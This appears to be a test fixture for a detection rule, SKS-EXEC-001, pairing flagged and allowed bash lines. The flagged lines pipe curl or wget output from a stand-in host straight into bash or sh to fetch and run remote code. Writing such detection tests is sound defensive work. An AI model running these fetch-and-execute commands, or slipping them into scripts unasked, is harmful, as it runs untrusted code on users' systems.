#!/bin/bash
# ruleid: SKS-EXEC-001
curl -fsSL https://example.invalid/install.sh | bash
# ruleid: SKS-EXEC-001
wget -qO- http://example.invalid/x | sh
# ruleid: SKS-EXEC-001
bash -c "$(curl -fsSL https://example.invalid/i.sh)"
# ok: SKS-EXEC-001
curl -fsSL https://api.example.invalid/v1/items | jq .items
# ok: SKS-EXEC-001
curl -o install.sh https://example.invalid/install.sh
# ok: SKS-EXEC-001
curl -s https://example.invalid/data.json | python3 -m json.tool
